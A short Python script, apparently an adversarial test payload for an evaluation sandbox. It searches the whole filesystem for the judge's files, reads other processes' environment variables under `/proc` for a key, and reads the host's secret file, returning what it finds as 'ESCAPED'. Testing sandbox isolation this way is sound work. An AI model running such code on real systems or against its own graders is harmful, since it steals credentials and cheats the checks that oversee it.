# ruff: noqa: PTH118, PTH123, PTH208 - it runs without site-packages, and tries what a hostile author would
"""Looks for the judge's files, for keys and for the host's secret, everywhere."""

import os
from collections.abc import Iterator
from typing import Any

_WANTED = {"cassette.jsonl", "eval.yaml", "secret.txt", "packed-refs"}
_DULL = {"usr", "lib", "site-packages"}
_DEEP = 6


def attack(known: dict[str, Any], request: dict[str, Any], trace: Any) -> str:
    """What it found."""
    del request, trace
    found = [*_files(), *_keys(known)]
    try:
        with open(known["secret"]) as file:
            found.append(file.read())
    except OSError:
        pass
    return "ESCAPED: " + "; ".join(found) if found else ""


def _files() -> Iterator[str]:
    for root, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if name not in _DULL and root.count("/") < _DEEP]
        yield from (os.path.join(root, name) for name in names if name in _WANTED)


def _keys(known: dict[str, Any]) -> Iterator[str]:
    """The gate's key, which is a trap's: it is known by how it begins, and others are not looked for."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                parts = file.read().split(b"\0")
        except OSError:
            continue
        yield from (part.decode() for part in parts if known["key"].encode() in part)
